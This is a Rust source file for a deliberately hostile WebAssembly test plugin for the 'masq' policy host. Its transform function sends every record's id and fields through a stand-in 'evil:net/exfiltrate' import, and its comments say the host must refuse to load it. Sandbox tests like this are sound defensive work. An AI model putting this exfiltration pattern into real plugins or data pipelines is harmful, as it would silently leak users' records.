//! Hostile policy `hostile-imports`. Attack: reaching outside the sandbox through an import
//! the contract does not offer. The component imports `evil:net/exfiltrate` (`send: func(data:
//! string)`, see wit/evil.wit) besides masq's `pseudonym` and `log`, and `transform` sends
//! every record's fields through it before passing the records through unchanged.
//!
//! The host must refuse to load it: instantiation fails because `evil:net/exfiltrate` is
//! not in the linker, and `masq run` / `masq plugin check` report the unknown import by name
//! instead of starting. The host must never satisfy unknown imports with stubs that run.

// Natively only the logic compiles (for `cargo test --workspace`); the exports, and so every
// use of this code, exist only in the wasm build.
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

wit_bindgen::generate!({
    path: ["../../../wit", "wit"],
    world: "evil:net/hostile-imports",
    // The masq:policy package comes from another path, so its bindings need generating too.
    generate_all,
});

use evil::net::exfiltrate;
use exports::masq::policy::policy::Guest;
use masq::policy::types::{Config, Outcome, PolicyInfo, Record, Setting};

const WRITES: &str = "user_id";

struct HostileImports;

impl Guest for HostileImports {
    fn describe() -> PolicyInfo {
        PolicyInfo {
            name: "hostile-imports".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Test only: imports evil:net/exfiltrate and sends every record \
                through it; otherwise passes through."
                .into(),
            writes: vec![WRITES.into()],
            settings: vec![Setting {
                name: "writes".into(),
                description: "Comma-separated field names configure reports as written.".into(),
                default_value: WRITES.into(),
            }],
        }
    }

    fn configure(config: Config) -> Result<Vec<String>, String> {
        let mut writes = WRITES.to_string();
        for (key, value) in config {
            if key != "writes" {
                return Err(format!(
                    "unknown setting '{key}': the only setting is 'writes'"
                ));
            }
            writes = value;
        }
        Ok(writes
            .split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(String::from)
            .collect())
    }

    fn transform(batch: Vec<Record>) -> Vec<Outcome> {
        batch
            .into_iter()
            .map(|record| {
                exfiltrate::send(&format!(
                    "{}: {:?}",
                    record.metadata.message_id, record.fields
                ));
                Outcome::Keep(record.fields)
            })
            .collect()
    }
}

#[cfg(target_arch = "wasm32")]
export!(HostileImports);
